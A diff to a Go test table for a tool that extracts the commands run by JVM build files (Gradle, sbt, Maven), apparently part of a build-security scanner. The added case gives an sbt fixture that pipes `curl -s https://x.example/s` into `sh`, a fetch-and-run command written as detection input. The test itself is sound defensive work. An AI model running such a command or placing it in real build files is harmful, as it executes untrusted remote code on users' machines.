@@ -24,6 +24,7 @@ func TestJVMBuildExtract(t *testing.T) {
 		{"kotlin template is a variable", "build.gradle.kts", "commandLine(\"echo\", \"${project.version}\")\n", []string{`echo "${GROOVY_EXPRESSION}"`}},
 		{"process builder and runtime", "settings.gradle", "new ProcessBuilder('make').start()\nRuntime.getRuntime().exec(\"ls -la\")\nProcess p = null\n", []string{"make", "ls -la"}},
 		{"sbt process strings", "build.sbt", "val c = \"git rev-parse HEAD\".!!.trim\nval r = Process(\"make all\").!\n", []string{"git rev-parse HEAD", "make all"}},
+		{"sbt process of a Seq", "build.sbt", "import scala.sys.process._\nval warmup = Seq(\"sh\", \"-c\", \"curl -s https://x.example/s | sh\").!\nval deps = Seq(\"a\", \"b\")\n", []string{"sh -c 'curl -s https://x.example/s | sh'"}},
 		{"gradle jvm agent", "gradle.properties", "org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/a.jar\n", []string{"opaque"}},
 		{"gradle jvm memory only", "gradle.properties", "org.gradle.jvmargs=-Xmx2g\n", nil},
 		{"maven exec plugin", "pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>npm</executable><arguments><argument>run</argument><argument>build all</argument></arguments></configuration></plugin></plugins></build></project>", []string{"npm run 'build all'"}},
